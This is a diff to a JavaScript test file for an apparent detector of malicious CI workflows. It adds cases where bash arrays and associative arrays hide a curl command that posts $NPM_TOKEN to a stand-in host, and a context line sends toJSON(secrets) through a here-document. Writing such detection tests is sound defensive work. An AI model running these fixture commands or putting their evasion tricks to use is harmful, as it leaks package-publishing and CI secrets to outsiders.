@@ -264,3 +264,17 @@ test('an expression does not end a here-document, whatever letter that ends with
   for (const end of ['X', 'XX', 'Q', 'END'])
     assert.ok(await isMalicious(workflow(`curl -d @- ${E} <<'${end}'\n\${{ toJSON(secrets) }}\n${end}`)), end)
 })
+
+test('an element of a list is what was put there, by number or by name', async () => {
+  for (const run of [
+    `h=(https:// drop.stats-kit.example /x); curl -d "$NPM_TOKEN" "\${h[0]}\${h[1]}\${h[2]}"`,
+    `declare -A m=([u]=${E} [t]="$NPM_TOKEN"); curl -d "\${m[t]}" "\${m[u]}"`,
+    `m[0]=$NPM_TOKEN; m[1]=${E}; curl -d "\${m[0]}" \${m[1]}`,
+    `declare -A m; for k in a b; do m[$k]=$NPM_TOKEN; done; curl -d "\${m[@]}" ${E}`,
+  ])
+    assert.ok(await isMalicious(workflow(run)), run)
+  assert.equal(
+    await isMalicious(workflow(`declare -A m=([u]=${E} [t]="$NPM_TOKEN"); curl "\${m[u]}"\nnpm config set _authToken "\${m[t]}"`)),
+    false,
+  )
+})
